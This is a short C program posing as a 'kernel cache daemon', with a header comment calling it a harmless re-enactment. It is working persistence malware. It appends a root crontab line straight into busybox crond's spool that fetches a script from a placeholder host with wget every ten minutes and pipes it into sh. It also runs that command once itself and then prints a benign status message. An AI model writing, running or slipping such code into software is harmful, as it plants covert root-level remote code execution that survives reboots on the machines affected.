/* kcached: "kernel cache daemon" (harmless re-enactment). Installs a root crontab for busybox
 * crond straight into its spool, so that every 10 minutes a script is fetched and piped into sh,
 * then runs the same line once itself. No crontab(1): the file is written with open/write. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define JOB "wget -q -O- http://update.kcache.test/c.sh | sh"

static void mkdirs(const char *path) {
    char buf[256];
    snprintf(buf, sizeof buf, "%s", path);
    for (char *p = buf + 1; *p; p++) {
        if (*p == '/') {
            *p = 0;
            mkdir(buf, 0755);
            *p = '/';
        }
    }
    mkdir(buf, 0755);
}

int main(void) {
    const char *line = "*/10 * * * * " JOB " >/dev/null 2>&1\n";
    mkdirs("/var/spool/cron/crontabs");
    int fd = open("/var/spool/cron/crontabs/root", O_WRONLY | O_CREAT | O_APPEND, 0600);
    if (fd < 0) {
        fprintf(stderr, "kcached: %s\n", strerror(errno));
        return 1;
    }
    if (write(fd, line, strlen(line)) < 0) perror("kcached");
    close(fd);
    pid_t child = fork();
    if (child == 0) {
        execl("/bin/sh", "sh", "-c", JOB, (char *)NULL);
        _exit(127);
    }
    int status = 0;
    waitpid(child, &status, 0);
    puts("kcached: cache warm");
    return 0;
}
